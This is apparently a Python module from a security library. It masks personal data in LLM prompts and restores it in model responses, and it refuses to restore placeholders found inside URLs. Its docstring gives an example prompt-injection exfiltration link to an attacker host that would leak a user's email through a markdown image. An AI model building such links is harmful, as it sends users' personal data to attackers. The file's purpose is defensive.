"""A reversible vault for PII round-trips: mask in the prompt, restore in the response.

One :class:`Vault` belongs to one session (conversation). ``vault.redact(text, result)`` swaps
each detected value for a placeholder such as ``[PII:email#1]`` and remembers the value;
``vault.restore(model_output)`` puts the values back. The LLM provider never sees the values.

Security properties:

* values live only in this object's memory: no global registry, no logging (``repr`` shows counts
  only), no pickling. A placeholder from another session's vault means nothing here, so a
  forged or replayed placeholder cannot pull out other sessions' values;
* the same value gets the same placeholder for the whole session, so the model can refer to it;
* placeholders written inside a URL are **not** restored by default: a prompt-injected model
  could otherwise build ``![](https://attacker.example/?q=[PII:email#1])`` and have the client
  send the real value out;
* the vault is bounded (``max_entries``); a full vault refuses to redact (fail closed) rather than
  letting values through.
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from dataclasses import dataclass
from typing import Any

from bastion._types import Category, Finding, ScanResult
from bastion.errors import InputError
from bastion.redact._redact import Replacement, apply_replacements, merge_spans

__all__ = ["Restoration", "Vault"]

_PLACEHOLDER = re.compile(r"\[([A-Z]{2,12}):([a-z0-9_.\-]{1,40})#(\d{1,7})\]")
_URL_HINT = re.compile(r"(?:[a-z][a-z0-9+.\-]{1,15}:|//|www\.)", re.IGNORECASE)
_URL_PREV = frozenset("=/?&#%+:@")
_LOOKBACK = 2048


@dataclass(frozen=True, slots=True)
class Restoration:
    """What :meth:`Vault.restore_detailed` did: the text, how many placeholders it restored, and
    how many it left in place because they stood inside a URL."""

    text: str
    restored: int
    refused: int


class Vault:
    """Reversible placeholders for one session. Not thread-safe across sessions by design: use one
    vault per session."""

    __slots__ = ("_by_value", "_counters", "_values", "categories", "max_entries", "session")

    def __init__(
        self,
        session: str = "",
        *,
        categories: Iterable[Category | str] = (Category.PII,),
        max_entries: int = 10_000,
    ) -> None:
        if max_entries < 1:
            raise InputError("max_entries must be at least 1")
        self.session = session
        self.categories = frozenset(Category(c) for c in categories)
        self.max_entries = max_entries
        self._values: dict[str, str] = {}
        self._by_value: dict[tuple[str, str, str], str] = {}
        self._counters: dict[tuple[str, str], int] = {}

    def __repr__(self) -> str:
        return f"Vault(session={self.session!r}, entries={len(self._values)})"

    def __len__(self) -> int:
        return len(self._values)

    def __reduce__(self) -> str | tuple[Any, ...]:
        raise TypeError("a Vault holds personal data in memory only and cannot be pickled")

    def clear(self) -> None:
        """Forget every value (end of session)."""
        self._values.clear()
        self._by_value.clear()
        self._counters.clear()

    def redact(self, text: str, findings: ScanResult | Iterable[Finding]) -> str:
        """``text`` with each finding (of the vault's categories) replaced by its placeholder."""
        if not isinstance(text, str):
            raise InputError(f"text must be str, not {type(text).__name__}")
        spans = merge_spans(findings, len(text), categories=self.categories)
        out: list[Replacement] = []
        for sp in spans:
            value = text[sp.start : sp.end]
            key = (sp.category.value, sp.entity, value)
            ph = self._by_value.get(key)
            if ph is None:
                if len(self._values) >= self.max_entries:
                    raise InputError(
                        f"vault for session {self.session!r} is full ({self.max_entries} values); "
                        "start a new session or raise max_entries"
                    )
                n = self._counters.get(key[:2], 0) + 1
                self._counters[key[:2]] = n
                ph = f"[{sp.category.value.upper()}:{sp.entity}#{n}]"
                self._values[ph] = value
                self._by_value[key] = ph
            out.append(Replacement(sp.start, sp.end, ph, sp.category, sp.entity, sp.rule_id))
        return apply_replacements(text, out)

    def restore(self, text: str, *, allow_in_urls: bool = False) -> str:
        """``text`` with this vault's placeholders replaced by the original values."""
        return self.restore_detailed(text, allow_in_urls=allow_in_urls).text

    def restore_detailed(self, text: str, *, allow_in_urls: bool = False) -> Restoration:
        """Like :meth:`restore`, also counting restored and refused (inside a URL) placeholders."""
        if not isinstance(text, str):
            raise InputError(f"text must be str, not {type(text).__name__}")
        parts: list[str] = []
        pos = 0
        restored = refused = 0
        for m in _PLACEHOLDER.finditer(text):
            value = self._values.get(m.group(0))
            if value is None:
                continue  # not ours: leave it as written
            if not allow_in_urls and _in_url(text, m.start()):
                refused += 1
                continue
            parts.append(text[pos : m.start()])
            parts.append(value)
            pos = m.end()
            restored += 1
        parts.append(text[pos:])
        return Restoration("".join(parts), restored, refused)


def _in_url(text: str, start: int) -> bool:
    """Whether the placeholder at ``start`` stands inside a URL-like token."""
    if start > 0 and text[start - 1] in _URL_PREV:
        return True
    lo = max(0, start - _LOOKBACK)
    token_start = lo
    for i in range(start - 1, lo - 1, -1):
        if text[i].isspace() or text[i] in "<>\"'`":
            token_start = i + 1
            break
    token = text[token_start:start]
    token = token.rsplit("](", 1)[-1].rsplit("(", 1)[-1]
    return bool(_URL_HINT.match(token))
